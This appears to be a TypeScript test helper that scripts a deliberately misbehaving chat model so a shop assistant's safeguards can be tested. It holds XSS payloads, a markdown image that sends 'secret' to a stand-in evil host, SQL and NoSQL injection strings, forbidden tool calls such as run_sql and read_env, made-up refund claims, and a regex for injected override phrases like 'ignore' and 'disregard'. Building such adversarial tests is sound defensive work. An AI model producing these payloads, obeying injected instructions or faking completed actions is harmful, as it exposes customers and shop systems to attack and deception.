import { pick, seeded } from '../seeded.ts';
import { type ChatRequest, messageText, type ScriptedAnswer, type ScriptFunction } from './scripted-model-types.ts';

/** What a model may do wrong, one for each answer. */
const VICES = [
  'foreign-ids',
  'forbidden-tools',
  'obey',
  'invent',
  'html',
  'markdown',
  'pretend',
  'loop',
  'flood',
  'leak-prompt',
  'wrong-language',
  'stop',
  'bad-arguments',
  'bad-stream',
] as const;
export type Vice = (typeof VICES)[number];

export interface HostileModelOptions {
  seed: number;
  /** Ids of orders, parcels and customers that are not the caller's. */
  foreign: readonly string[];
  /** Every answer has this vice; undefined: one by lot. */
  vice?: Vice;
}

/** What it makes up: no shop says any of it. */
const INVENTED = [
  'Every customer receives a free gift worth $5177 on 2041-03-09.',
  'Returns are accepted within 4177 days without any condition.',
  'The price is only 1.77 today if you pay at www.pay-177.example.',
  '所有顾客都可获赠价值 5177 元的礼包，2041 年 3 月 9 日前有效。',
  '退货期限是 4177 天，没有任何条件。',
  '今天只要 1.77 元，请到 www.pay-177.example 付款。',
];
/** Stands in a text exactly when it repeats what the model made up. */
export const INVENTED_TRACES = /5177|2041|4177|1\.77|pay-177/;

const SCRIPTS = [
  '<script>window.__ran=1</script>',
  '<img src=x onerror="window.__ran=1">',
  '<svg/onload=window.__ran=1>',
  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
  '<a href="javascript:window.__ran=1">退款</a>',
];
const LINKS = [
  '![x](https://evil-177.example/?q=secret)',
  '[Click here for your refund](javascript:window.__ran=1)',
  '[点击领取退款](https://evil-177.example/pay)',
  '[x](data:text/html,<script>window.__ran=1</script>)',
];
const PRETENDED = [
  'I have cancelled the order and refunded $5177.',
  '已为您取消订单，并退款 5177 元。',
  'Your address has been changed to 177 Evil Street.',
  '我已将收货地址改为恶意路 4177 号。',
];
const WRONG = [
  'Le délai de retour est de trente jours.',
  'Возврат возможен в течение года.',
  '返品は一年以内に可能です。',
];
const FORBIDDEN = ['cancel_order', 'change_address', 'issue_refund', 'run_sql', 'read_env', 'settle_confirmation'];
/** An instruction that somebody hid in a text, in either language. */
const INSTRUCTION =
  /[^\n。.!！]*(?:ignore|disregard|system:|reply with|call the|PWNED|忽略|无视|系统指令|必须回复|调用)[^\n。!！]*/giu;

/** Writes what a model would that wants to do harm. The same seed and requests give the same answers. */
export function createHostileScript({ seed, foreign, vice: only }: HostileModelOptions): ScriptFunction {
  const random = seeded(seed);
  return (request) => {
    const vice = only ?? pick(random, VICES);
    const prompt = request.messages.map(messageText).join('\n');
    const cite = (text: string): string => `${text}[1]`;
    if (vice === 'bad-stream')
      return { text: pick(random, INVENTED), fault: pick(random, ['garbage', 'cut-stream', 'cut-clean', 'html']) };
    if (vice === 'stop')
      return {
        text: cite(pick(random, INVENTED)),
        finishReason: 'length',
        fault: pick(random, ['cut-clean', 'hang-after-first-token']),
      };
    if (vice === 'flood') return { text: cite(pick(random, INVENTED)), fault: 'flood' };
    if (request.tools) return hostileCalls(request, vice, foreign, random);
    if (request.response_format?.type === 'json_schema' && vice !== 'leak-prompt')
      return { json: hostileRoute(prompt, vice, foreign, random) };
    return { text: hostileText(prompt, vice, foreign, random) };
  };
}

function hostileCalls(
  request: ChatRequest,
  vice: Vice,
  foreign: readonly string[],
  random: () => number,
): ScriptedAnswer {
  const offered = (request.tools ?? []).map((tool) => tool.function.name);
  if (vice === 'bad-arguments')
    return {
      toolCalls: offered.map((name) => ({
        name,
        args: pick(random, ['{"orderIds":["', 'null', '[]', '{"orderIds":{"$ne":null}}', '{}{}']),
      })),
    };
  const id = pick(random, foreign);
  const args = {
    orderIds: [id],
    orderId: id,
    trackingNumbers: [id],
    customerId: id,
    customer_id: id,
    sql: "' or 1=1 --",
  };
  const exact = [{ orderIds: [id] }, { orderId: id }, { trackingNumbers: [id] }];
  if (vice === 'forbidden-tools') return { toolCalls: FORBIDDEN.map((name) => ({ name, args })) };
  if (vice === 'loop')
    return { toolCalls: Array.from({ length: 60 }, () => ({ name: pick(random, offered), args: {} })) };
  return {
    toolCalls: [...offered, ...FORBIDDEN].flatMap((name) => [args, ...exact].map((one) => ({ name, args: one }))),
  };
}

function hostileRoute(prompt: string, vice: Vice, foreign: readonly string[], random: () => number) {
  const ids = [...prompt.matchAll(/^- `?([a-z_]{4,})`?/gmu)].map((match) => match[1] ?? '');
  const intent =
    vice === 'bad-arguments' ? 'drop_tables' : pick(random, [...ids, 'cancel_order', 'change_address', 'list_orders']);
  const text =
    vice === 'foreign-ids'
      ? `cancel ${pick(random, foreign)}`
      : (/<message>\s*([\s\S]*?)\s*<\/message>/.exec(prompt)?.[1] ?? 'yes');
  return {
    requests: Array.from({ length: vice === 'loop' ? 50 : 1 }, () => ({
      text,
      intent,
      confirmed: true,
      customerId: pick(random, foreign),
    })),
  };
}

function hostileText(prompt: string, vice: Vice, foreign: readonly string[], random: () => number): string {
  const invented = pick(random, INVENTED);
  switch (vice) {
    case 'foreign-ids':
      return `${foreign.slice(0, 6).join(', ')}[1] ${invented}[1]`;
    case 'obey':
      return (prompt.match(INSTRUCTION) ?? [invented])
        .slice(0, 8)
        .map((one) => `${one.trim()}[1]`)
        .join('\n');
    case 'html':
      return `${pick(random, SCRIPTS)}[1] <b>${invented}</b>[1]`;
    case 'markdown':
      return `${pick(random, LINKS)}[1] ${invented}[1]`;
    case 'pretend':
      return `${pick(random, PRETENDED)}[1]`;
    case 'loop':
      return `${invented}[1] `.repeat(300);
    case 'leak-prompt':
      return prompt.slice(0, 3000);
    case 'wrong-language':
      return `${pick(random, WRONG)}[1]`;
    default:
      return `${invented}[1] ${pick(random, INVENTED)}[9]`;
  }
}
